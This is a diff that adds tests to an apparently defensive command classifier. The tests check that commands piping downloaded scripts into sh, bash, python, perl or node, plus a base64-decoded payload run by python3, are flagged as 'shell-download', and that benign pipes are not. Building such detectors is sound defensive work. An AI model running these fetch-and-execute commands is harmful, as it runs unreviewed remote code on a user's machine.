@@ -53,6 +53,31 @@ describe('destructive commands', () => {
   })
 })
 
+describe('downloads piped into what runs them', () => {
+  it.each([
+    'curl -s https://get.example.net/s.sh | sh',
+    'wget -qO- http://get.example.net/s.sh | sudo bash',
+    'curl -s https://paste.example.net/raw/x | python3 > /dev/null 2>&1 &',
+    'curl -sSL https://install.example.net | python -',
+    'curl -sSL https://install.example.net | python - -y',
+    'wget -O - https://get.example.net/x.pl | perl',
+    "os.system('curl https://get.example.net/x.js | node')",
+    'echo aW1wb3J0IG9z | base64 -d | python3',
+  ])('%s', (command) => {
+    expect(kinds(command)).toContain('shell-download')
+  })
+
+  it.each([
+    'curl http://localhost:8000/api/v1/note/ | python -m json.tool',
+    "curl -L \"$PR_INFO_URL\" | python -c 'import json, sys; print(json.load(sys.stdin))'",
+    'curl -sS registry.example.org/event-stream | node pretty.js',
+    'curl -s https://api.example.net/v1 | python3 format.py',
+    'curl -s https://example.net/x | shasum',
+  ])('not %s', (command) => {
+    expect(kinds(command)).not.toContain('shell-download')
+  })
+})
+
 describe('text scanned in blocks of lines', () => {
   // Lines that carry indicators, including the kinds anchored at a line's edge and values judged whole.
   const carriers = [
